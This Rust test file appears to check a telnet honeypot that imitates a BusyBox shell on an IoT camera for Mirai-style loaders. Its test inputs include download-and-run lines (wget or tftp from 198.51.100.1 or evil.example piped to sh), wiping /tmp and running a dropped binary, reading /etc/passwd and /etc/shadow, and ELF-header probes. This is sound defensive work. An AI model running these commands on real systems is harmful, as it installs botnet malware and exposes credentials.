//! What the device says, held against busybox 1.35 to 1.37 as far as those say it.

use super::*;
use crate::drive::{NOW, said};
use alloc::{string::ToString, vec};
use proptest::prelude::*;

fn cam() -> Telnet {
    Telnet::default().named("cam").unwrap()
}

fn printed(line: &str) -> String {
    all(&[line])
}

fn all(lines: &[&str]) -> String {
    let (mut inside, mut answer) = (Inside::default(), Vec::new());
    for line in lines {
        let _ = run(line.as_bytes(), &cam(), &mut inside, NOW, &mut answer);
    }
    said(&answer).replace("\r\n", "\n")
}

fn head() -> String {
    let mut head = Vec::new();
    show(cam().device.program_head, &mut head);
    said(&head).replace("\r\n", "\n")
}

#[test]
fn probes_are_answered_as_ash_answers_them() {
    let telnet = cam();
    let device = &telnet.device;
    let (release, build) = device.kernel.split_once(' ').unwrap();
    let uname = format!("Linux cam {release} {build} {} GNU/Linux\n", device.machine);
    let some = format!("Linux cam {release} {}\n{build}\nunknown\n", device.machine);
    let table = [
        ("enable", "-sh: enable: not found\n"),
        ("/bin/busybox MIRAI", "MIRAI: applet not found\n"),
        ("cat /nothing; /bin/busybox ECCHI", "cat: can't open '/nothing': No such file or directory\nECCHI: applet not found\n"),
        (r"echo -e '\x6b\x61\x6d\x69'", "kami\n"),
        (r"/bin/busybox echo -ne '\x67a'", "ga"),
        ("echo hi there; echo \"a;b\" '|' c\\ d", "hi there\na;b | c d\n"),
        (
            "wget http://198.51.100.1/b -O- | sh; echo $?",
            "Connecting to 198.51.100.1 (198.51.100.1:80)\nwget: can't connect to remote host (198.51.100.1): Network is unreachable\n0\n",
        ),
        (
            "wget -q 198.51.100.1:81/b || tftp -g -l b -r c 198.51.100.1 || ftpget 198.51.100.1 b c; echo $?",
            "wget: can't connect to remote host (198.51.100.1): Network is unreachable\ntftp: sendto: Network is unreachable\n\
             ftpget: can't connect to remote host (198.51.100.1): Network is unreachable\n1\n",
        ),
        (
            "wget http://evil.example/b; tftp evil.example -g -r b; ftpget -v evil.example b c; wget nosuch",
            "wget: bad address 'evil.example'\ntftp: bad address 'evil.example'\nftpget: bad address 'evil.example'\nwget: bad address 'nosuch'\n",
        ),
        ("rm b; rm -f b; rmdir c", "rm: can't remove 'b': No such file or directory\nrmdir: 'c': No such file or directory\n"),
        ("sh", &device.greeting()),
        ("cd /tmp || cd /var/run || cd /mnt", ""),
        ("rm -rf /tmp/*; chmod 777 a; ./a tcp; /tmp/a; A=b; while true; do x; done", ""),
        (
            "/bin/busybox wget http://198.51.100.1:80/b",
            "Connecting to 198.51.100.1:80 (198.51.100.1:80)\nwget: can't connect to remote host (198.51.100.1): Network is unreachable\n",
        ),
        ("curl http://198.51.100.1/b; /usr/bin/python3 x", "-sh: curl: not found\n-sh: /usr/bin/python3: not found\n"),
        ("uname -a", &uname),
        ("uname -s -n -r -m; uname -v; uname -p", &some),
        ("id; id -u", "uid=0(root) gid=0(root)\n0\n"),
        ("cat /proc/mounts | grep -c tmpfs", "4\n"),
        ("cat /etc/passwd | head -n 1; grep nobody /etc/passwd | wc -l", "root:x:0:0:root:/root:/bin/sh\n1\n"),
        (
            "killall nosuch; kill -9 99999; kill 981",
            "killall: nosuch: no process killed\nsh: can't kill pid 99999: No such process\n",
        ),
        ("", ""),
    ];
    for (line, expected) in table {
        assert_eq!(printed(line), expected, "{line:?}");
    }
    assert!(printed("uname -x").starts_with("uname: invalid option -- 'x'\nBusyBox v1."));
    assert!(printed("wget").contains("\n\nUsage: wget [-cqS]") && printed("tftp").contains("Usage: tftp [OPTIONS] HOST"));
    assert!(printed("help").starts_with("Built-in commands:\n------------------\n\t. : [ [[ alias "));
}

#[test]
fn a_line_is_read_by_what_came_of_the_commands_before() {
    let table = [
        ("true && echo a || echo b", "a\n"),
        ("false && echo a || echo b", "b\n"),
        ("cat /nothing 2>/dev/null || echo b", "b\n"),
        ("/bin/busybox X >/dev/null || echo $?", "X: applet not found\n127\n"),
        ("if [ -d /tmp ]; then echo a; else echo b; fi", "a\n"),
        ("if test -f /none; then echo a; elif true; then echo b; fi; echo c", "b\nc\n"),
        ("(echo a; echo b) | wc -l", "2\n"),
        ("{ echo a; nosuch; } 2>&1 | wc -l", "2\n"),
        ("X=1 Y=2; echo $X${Y}z '$X' $(echo a; echo `uname`)", "12z $X a\nLinux\n"),
        ("sh -c 'cd /; echo a; exit'; pwd", "a\n/root\n"),
        (
            "cat < /none; echo x > /none; echo x > /proc/.n; echo x > /none/a",
            "-sh: can't open /none: no such file\n-sh: can't create /none: Read-only file system\n\
             -sh: can't create /proc/.n: nonexistent directory\n-sh: can't create /none/a: nonexistent directory\n",
        ),
        ("for i in a b; do echo $i; done; false; echo $?", "1\n"),
    ];
    for (line, expected) in table {
        assert_eq!(printed(line), expected, "{line:?}");
    }
}

/// What the loaders of Mirai and its kin ask, and want to hear an ELF's head for.
#[test]
fn loaders_get_the_head_of_a_program_once() {
    let head = head();
    assert!(head.starts_with("\u{7f}ELF"));
    assert_eq!(printed("/bin/busybox cat /proc/self/exe || cat /proc/self/exe"), head);
    assert_eq!(printed("cat /bin/echo"), head);
    assert_eq!(
        all(&["cd /tmp; cat .s || cp /bin/echo .s; /bin/busybox ECCHI", "cat .s"]),
        format!("cat: can't open '.s': No such file or directory\nECCHI: applet not found\n{head}")
    );
    let copied = all(&["cd /tmp", "cp /bin/echo .s", "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s"]);
    assert_eq!(copied, format!("{head}1+0 records in\n1+0 records out\n"));
    assert_eq!(all(&["cp /bin/echo /tmp/.s", "while read i; do echo $i; done < /tmp/.s"]).get(..4), Some("\u{7f}ELF"));
    assert_eq!(printed("dd if=/bin/busybox bs=22 count=1 2>/dev/null").len(), head.get(..22).unwrap().len());
    assert!(
        printed("head -c 52 /bin/echo").starts_with("\u{7f}ELF") && printed("dd if=/none bs=1").contains("can't open '/none'")
    );
}

#[test]
fn small_files_are_there_until_the_end_and_no_more_of_them_than_are_kept() {
    let kami = [r"echo -e '\x6b\x61\x6d\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon", "cat /dev/.nippon"];
    assert_eq!(all(&kami), "kami/dev\ncat: can't open '/dev/.nippon': No such file or directory\n");
    let appended = [">/tmp/u", r"echo -ne '\x61\x62' >> /tmp/u; echo -ne 'c' >> /tmp/u", "cat /tmp/u; echo; ls -l /tmp/u"];
    let told = all(&appended);
    assert!(told.starts_with("abc\n-rw-r--r--    1 root     root             3 ") && told.ends_with(" /tmp/u\n"), "{told}");
    assert_eq!(
        all(&["cd /var; mkdir a; cd a; echo x > f; ls; mv f g; cat g; cd ..; rm -rf a; cd a"]),
        "f\nx\n-sh: cd: can't cd to a: No such file or directory\n"
    );
    assert_eq!(all(&["echo 'echo $((6*7)); exit' > /tmp/s", "sh /tmp/s; chmod +x /tmp/s; /tmp/s"]), "42\n42\n");
    let long = format!("rm -rf {}", "a/".repeat(300));
    assert_eq!(all(&["echo a > /tmp/b", &long, "cat /tmp/b"]), "a\n", "a path that is too long is nowhere");
    let mut inside = Inside::default();
    for number in 0..40 {
        let line = format!("echo {} > /tmp/{number}; mkdir /tmp/d{number}; V{number}=x", "y".repeat(1_000));
        let _ = run(line.as_bytes(), &cam(), &mut inside, NOW, &mut Vec::new());
    }
    let held = inside.files.held();
    assert_eq!((held, inside.variables.len()), ((16, 16 * 256, 16), VARIABLES_MAX));
    assert_eq!(printed("echo x > /dev/null; ls /dev/null; cat /dev/null"), "/dev/null\n");
}

#[test]
fn folders_are_entered_and_looked_into() {
    assert_eq!(
        all(&["cd /nosuch", "cd /etc/passwd", "cd /tmp; pwd; cd; pwd; cd -; pwd"]),
        "-sh: cd: can't cd to /nosuch: No such file or directory\n-sh: cd: can't cd to /etc/passwd: Not a directory\n/tmp\n/root\n/tmp\n"
    );
    assert_eq!(
        printed("ls /"),
        "bin      lib      mnt      root     sys      var\ndev      linuxrc  opt      run      tmp      www\netc      media    proc     sbin     usr\n"
    );
    assert_eq!(printed("ls / | wc -l"), "17\n");
    assert!(
        printed("ls -l /").contains("drwxrwxrwt    2 root     root ")
            && printed("ls -l /bin/sh").contains(" /bin/sh -> busybox\n")
    );
    assert!(printed("ls -la /dev").contains("crw-rw-rw-    1 root     root        1,   3 "), "{}", printed("ls -la /dev"));
    assert_eq!(printed("ls /nosuch"), "ls: /nosuch: No such file or directory\n");
    let prompt = |lines: &[&str]| {
        let (mut inside, mut answer) = (Inside::default(), Vec::new());
        for line in lines {
            let _ = run(line.as_bytes(), &cam(), &mut inside, NOW, &mut Vec::new());
        }
        prompt(&inside, &mut answer);
        said(&answer)
    };
    assert_eq!((prompt(&[]), prompt(&["cd /tmp"]), prompt(&["cd /tmp; cd"])), ("~ # ".into(), "/tmp # ".into(), "~ # ".into()));
}

/// What is told in several ways agrees.
#[test]
fn the_device_agrees_with_itself() {
    let listed: Vec<String> = printed("busybox --list").lines().map(ToString::to_string).collect();
    let functions = printed("busybox");
    assert!(functions.starts_with("BusyBox v1.") && functions.contains("Currently defined functions:\n\t[, [[, ash, "));
    for name in &listed {
        assert!(!printed(&format!("busybox {name} x")).contains("applet not found"), "{name}");
        assert!(functions.contains(&format!("{name},")) || functions.ends_with(&format!("{name}\n")), "{name}");
    }
    let there: Vec<String> =
        printed("ls /bin /sbin /usr/bin /usr/sbin | grep -v :").split_whitespace().map(ToString::to_string).collect();
    assert!(listed.iter().all(|name| there.contains(name)), "{there:?}");
    let mounts = printed("cat /proc/mounts");
    for disk in printed("df").lines().skip(1) {
        let words: Vec<&str> = disk.split_whitespace().collect();
        assert!(mounts.contains(&format!("{} {} ", words[0], words[5])), "{disk}");
    }
    assert_eq!(printed("mount").lines().count(), mounts.lines().count() - 1);
    for folder in printed("cat /etc/passwd /etc/shadow").lines().map(|line| line.split(':').next().unwrap()) {
        assert!(printed("cat /etc/shadow").contains(&format!("{folder}:")));
    }
    assert!(printed("df -h | grep /dev$ || df -h").contains("Size      Used Available"));
    assert!(printed("cat /proc/meminfo").starts_with("MemTotal:        "));
    assert!(printed("cat /etc/os-release").contains("VERSION_ID=20"));
    let lure = crate::lure::example();
    let (mut inside, mut answer) = (Inside::default(), Vec::new());
    let showing = cam().showing(&lure);
    let _ = run(b"ls; cat *.sh; cat backup.sh | head -n 1", &showing, &mut inside, NOW, &mut answer);
    assert!(said(&answer).contains(lure.script().0), "{}", said(&answer));
}

#[test]
fn a_shell_in_the_shell_calls_itself_otherwise_and_is_left_first() {
    let mut inside = Inside::default();
    let told = |line: &[u8], inside: &mut Inside| {
        let mut answer = Vec::new();
        let outcome = run(line, &cam(), inside, NOW, &mut answer);
        (outcome, said(&answer))
    };
    assert!(told(b"sh", &mut inside).1.contains("BusyBox v"));
    assert_eq!(told(b"nosuch", &mut inside).1, "sh: nosuch: not found\r\n");
    assert_eq!((told(b"exit", &mut inside).0, told(b"exit", &mut inside).0), (Outcome::Prompt, Outcome::Exit));
    (0..30).for_each(|_| drop(told(b"sh", &mut inside)));
    assert_eq!(inside.depth, DEPTH_MAX);
    assert_eq!(told(b"id; exit; id", &mut Inside::default()), (Outcome::Exit, "uid=0(root) gid=0(root)\r\n".into()));
}

#[test]
fn a_line_of_many_commands_is_answered_and_bounded() {
    let probes = "/bin/busybox ECCHI;".repeat(60);
    assert_eq!(printed(&probes).lines().count(), 60);
    assert_eq!(printed(&"echo a;".repeat(100)).lines().count(), COMMANDS_MAX);
    let mut answer = Vec::new();
    let _ = run(&b"cat /proc/cpuinfo;".repeat(64), &cam(), &mut Inside::default(), NOW, &mut answer);
    assert!((OUTPUT_BYTES_MAX..=SHOWN_BYTES_MAX).contains(&answer.len()), "{}", answer.len());
    let deep = |inner: &str| (0..30).fold(inner.to_string(), |line, _| format!("echo $({line})"));
    assert!(printed(&deep("id")).len() < 20);
    let _ = printed(&format!("{}id{}", "(".repeat(1_000), ")".repeat(1_000)));
}

/// What is not printed is not for nothing: a line's cost is bounded by what it looks up.
#[test]
fn a_line_that_prints_nothing_is_bounded_too() {
    let mut inside = Inside::default();
    let rows = format!("ls -l {} > /dev/null;", "/ ".repeat(60)).repeat(30);
    let _ = run(rows.as_bytes(), &cam(), &mut inside, NOW, &mut Vec::new());
    assert_eq!(inside.steps.get(), 0, "all is spent");
    let mut answer = Vec::new();
    let _ = run(format!("{rows} echo a").as_bytes(), &cam(), &mut inside, NOW, &mut answer);
    assert_eq!(said(&answer), "", "what stands behind is not answered any more");
    let _ = run(b"ls -l /; echo a", &cam(), &mut inside, NOW, &mut answer);
    assert!(said(&answer).ends_with("a\r\n") && inside.steps.get() > STEPS_MAX - 100, "each line has its own");
    let long = format!("A={};echo {}", "x".repeat(300), "$A".repeat(1_500));
    assert!(printed(&long).len() <= WORD_BYTES_MAX + 1);
}

fn lines() -> impl Strategy<Value = Vec<u8>> {
    const WORDS: [&str; 44] = [
        "cat",
        "/bin/busybox",
        "echo",
        "-ne",
        "'\\x7f'",
        "\"$A\"",
        "$(",
        ")",
        "`",
        "(",
        "{",
        "}",
        ";",
        "&&",
        "||",
        "|",
        ">",
        ">>",
        "<",
        "2>&1",
        "2>/dev/null",
        "/tmp/f",
        ".s",
        "/proc/self/exe",
        "dd",
        "if=.s",
        "bs=99999999999",
        "count=18446744073709551615",
        "cp",
        "ls",
        "-la",
        "/",
        "while",
        "read",
        "do",
        "done",
        "if",
        "then",
        "fi",
        "sh",
        "-c",
        "A=b",
        "\n",
        "head",
    ];
    let word = prop_oneof![
        9 => proptest::sample::select(WORDS.to_vec()).prop_map(|word| format!("{word} ").into_bytes()),
        1 => proptest::collection::vec(any::<u8>(), 0..12),
    ];
    proptest::collection::vec(word, 0..60).prop_map(|words| words.concat())
}

proptest! {
    #[test]
    fn no_line_breaks_it_and_what_it_prints_is_bounded(lines in proptest::collection::vec(lines(), 1..6)) {
        let mut inside = Inside::default();
        for line in &lines {
            let mut answer = vec![];
            let _ = run(line, &cam(), &mut inside, NOW, &mut answer);
            prop_assert!(answer.len() <= SHOWN_BYTES_MAX);
            let (files, bytes, folders) = inside.files.held();
            prop_assert!(files <= 16 && bytes <= 16 * 256 && folders <= 16);
            let mut answer = vec![];
            prompt(&inside, &mut answer);
            prop_assert!(answer.len() <= 1_024);
        }
    }
}
